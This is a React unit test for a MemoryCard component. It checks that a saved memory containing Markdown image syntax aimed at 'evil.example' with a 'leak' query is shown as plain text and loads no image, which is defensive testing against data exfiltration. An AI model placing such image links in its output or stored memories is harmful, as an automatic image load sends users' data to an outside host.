import { render, screen } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { MemoryCard } from './memory-card'

describe('memory card', () => {
  it('shows a memory holding Markdown image syntax as its text: nothing is loaded', () => {
    const text = 'Saved from a page ![x](https://evil.example/?leak=1)'
    const { container } = render(
      <MemoryCard
        memory={{ id: 'm1', text, tags: [], date: '2026-11-26', createdAt: null }}
        timeZone="UTC"
        onEdit={() => {}}
        onDelete={() => {}}
      />,
    )
    expect(container.querySelector('img')).toBeNull()
    expect(screen.getByText(text)).toBeInTheDocument()
  })
})
